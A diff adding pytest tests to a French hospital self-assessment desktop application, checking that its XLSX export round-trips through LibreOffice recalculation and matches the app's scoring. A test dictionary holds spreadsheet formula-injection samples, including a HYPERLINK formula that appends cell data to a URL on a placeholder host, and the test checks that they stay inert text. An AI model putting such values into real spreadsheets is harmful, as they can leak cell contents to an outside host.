@@ -287,3 +287,152 @@ def test_a_workbook_of_an_establishment_with_an_old_wrong_key_reimports(
         import_workbook_file(ws, campaign.id, path)
         assert ws.answers(campaign.id)["P1.1"].numerator == 9
         assert ws.journal.verify_all() == []
+
+
+#: Comments a spreadsheet would run as formulas if they were written as such.
+INJECTIONS = {
+    "P1.1": "=1+1",
+    "P2.1": '=HYPERLINK("http://exemple.invalid/?"&A1,"cliquez")',
+    "D1.1": "+33 4 95 00 00 00",
+    "D2.3": "-5 lits",
+    "D3.1": "@SUM(A1:A3)",
+}
+
+
+def _fill_in(wb: Any) -> None:
+    """Answers typed into the yellow cells as a user would, varied enough to reach every status:
+    exact targets (9/10 against 90 %), a rate just under (899/1000), a zero denominator, a
+    missing count, criteria answered oui, non or left blank, domain indicators declared N/A."""
+    from hopen_desktop.reports.xlsx_layout import COL_DEN, COL_ID, COL_JUST, COL_MET, COL_NA, COL_NUM, FIRST_ROW
+
+    counts = [(9, 10), (899, 1000), (0, 0), (None, 5), (100, 100), (1, 3), (45, 50), (3, 4)]
+    ticks = ["oui", "non", None, "oui", "oui", "oui", " OUI "]
+    n = k = 0
+    for name in ("P1", "P2", "P3", "P4", "D1", "D2", "D3", "D4", "D5", "D6", "D7"):
+        sheet = wb[name]
+        for row in range(FIRST_ROW, sheet.max_row + 1):
+            item = sheet.cell(row=row, column=COL_ID).value
+            if not item:
+                continue
+            if item.count(".") == 1:  # an indicator's row
+                n += 1
+                if sheet.cell(row=row, column=COL_NUM).fill.fgColor.rgb.endswith("FFF7D6"):
+                    num, den = counts[n % len(counts)]
+                    sheet.cell(row=row, column=COL_NUM).value = num
+                    sheet.cell(row=row, column=COL_DEN).value = den
+                if name.startswith("D") and n % 5 == 0:
+                    sheet.cell(row=row, column=COL_NA).value = "oui"
+                    sheet.cell(row=row, column=COL_JUST).value = "Sans objet ici."
+                elif name.startswith("D") and n % 7 == 0:
+                    sheet.cell(row=row, column=COL_NA).value = "non"
+            else:
+                cell = sheet.cell(row=row, column=COL_MET)
+                if cell.fill.fgColor.rgb.endswith("FFF7D6") and cell.value != "non applicable":
+                    k += 1
+                    cell.value = ticks[k % len(ticks)]
+
+
+@pytest.mark.parametrize("in_ght", [True, False])
+def test_libreoffice_recalculates_what_the_application_scores(
+    filled: tuple[Workspace, int], tmp_path: Path, in_ght: bool
+) -> None:
+    """Issue 17, item 8: the rates, statuses, group statuses and the global prerequisite rate are
+    live formulas. Answers changed with openpyxl, the workbook recalculated by LibreOffice
+    (headless), then imported into a copy of the workspace and scored: every figure the
+    spreadsheet computes is the application's."""
+    from dataclasses import replace
+
+    from openpyxl import load_workbook
+
+    from hopen_desktop.model.operations.establishments import update_establishment
+    from hopen_desktop.model.scoring import STATUS_LABELS
+    from hopen_desktop.model.snapshot import take_snapshot
+    from hopen_desktop.reports.xlsx_layout import (
+        COL_COMMENT,
+        COL_ID,
+        COL_MET,
+        COL_RATE,
+        COL_STATUS,
+        FIRST_ROW,
+        SUMMARY_SHEET,
+    )
+    from tests.reports.conftest import recalculated
+
+    ws, campaign_id = filled
+    campaign = ws.campaign(campaign_id)
+    if not in_ght:
+        from hopen_desktop.model.entities import EstablishmentData
+
+        est = ws.establishments.get(campaign.establishment_id)
+        update_establishment(
+            ws,
+            est.id,
+            EstablishmentData(finess=est.finess, name=est.name, legal_status=est.legal_status,
+                              activities=tuple(est.activities), ght=None, ght_support=False),
+        )  # fmt: skip
+    else:
+        # a conditional criterion declared non applicable in the application (kept, shown as such)
+        d53 = ws.answers(campaign_id).get("D5.3", Answer("D5.3"))
+        ws.save_answer(campaign_id, replace(d53, criteria_na={"D5.3.ght": "Pas de pôle inter-établissements."}))
+        # text that a spreadsheet would take for a formula stays text (formula injection)
+        for indicator, text in INJECTIONS.items():
+            old = ws.answers(campaign_id).get(indicator, Answer(indicator))
+            ws.save_answer(campaign_id, replace(old, comment=text))
+    exported = export_xlsx(ws, campaign_id, tmp_path / "grille.xlsx")
+    if in_ght:
+        assert row_value(exported, "D5", "D5.3.ght", COL_MET) == "non applicable"
+    (tmp_path / "rempli").mkdir()
+    changed = edited(exported, tmp_path / "rempli" / "grille.xlsx", _fill_in)
+    computed = load_workbook(recalculated(changed, tmp_path / "recalcul"), data_only=True)
+
+    copy = tmp_path / "copie.sqlite"
+    copy.write_bytes(snapshot(ws.path))
+    with Workspace.open(copy) as other:
+        summary = import_xlsx(other, campaign_id, changed).value
+        assert len(summary.changed) > 20
+        score = take_snapshot(other, campaign_id).score
+        if in_ght:
+            assert other.answers(campaign_id)["D5.3"].criteria_na == {"D5.3.ght": "Pas de pôle inter-établissements."}
+            for indicator, text in INJECTIONS.items():
+                assert other.answers(campaign_id)[indicator].comment == text  # read back as the text it is
+
+    for indicator, text in INJECTIONS.items() if in_ght else ():
+        group = indicator.split(".")[0]
+        cell = computed[group].cell(row=row_of(exported, group, indicator), column=COL_COMMENT)
+        assert cell.value == text, indicator  # shown as typed, never computed
+    seen = 0
+    for group in ("P1", "P2", "P3", "P4", "D1", "D2", "D3", "D4", "D5", "D6", "D7"):
+        sheet = computed[group]
+        for row in range(FIRST_ROW, sheet.max_row + 1):
+            item = sheet.cell(row=row, column=COL_ID).value
+            if item not in score.indicators:
+                continue
+            seen += 1
+            expected = score.indicators[item]
+            assert sheet.cell(row=row, column=COL_STATUS).value == STATUS_LABELS[expected.status], item
+            rate = sheet.cell(row=row, column=COL_RATE).value
+            if expected.value is None:
+                assert rate in (None, ""), item
+            else:
+                assert rate == pytest.approx(float(expected.value)), item
+    assert seen == 41
+    statuses = {s.status for s in score.indicators.values()}
+    assert len(statuses) == 4  # every status reached, each compared
+    summary_sheet = computed[SUMMARY_SHEET]
+    groups = {r[0]: r for r in summary_sheet.iter_rows(values_only=True) if r and r[0] in score.groups}
+    for gid, g in score.groups.items():
+        assert groups[gid][2:5] == (STATUS_LABELS[g.status], g.attained, g.applicable), gid
+    [rate_row] = [
+        r for r in summary_sheet.iter_rows(values_only=True) if r[0] == "Taux global d'atteinte des prérequis"
+    ]
+    assert rate_row[1] == pytest.approx(float(score.prerequisites_rate))
+    [count_row] = [
+        r for r in summary_sheet.iter_rows(values_only=True) if r[0] and str(r[0]).startswith("Indicateurs prérequis")
+    ]
+    assert count_row[1] == f"{score.prerequisites_attained} / {score.prerequisites_applicable}"
+
+
+def row_value(path: Path, sheet: str, item_id: str, col: int) -> Any:
+    from openpyxl import load_workbook
+
+    return load_workbook(path)[sheet].cell(row=row_of(path, sheet, item_id), column=col).value
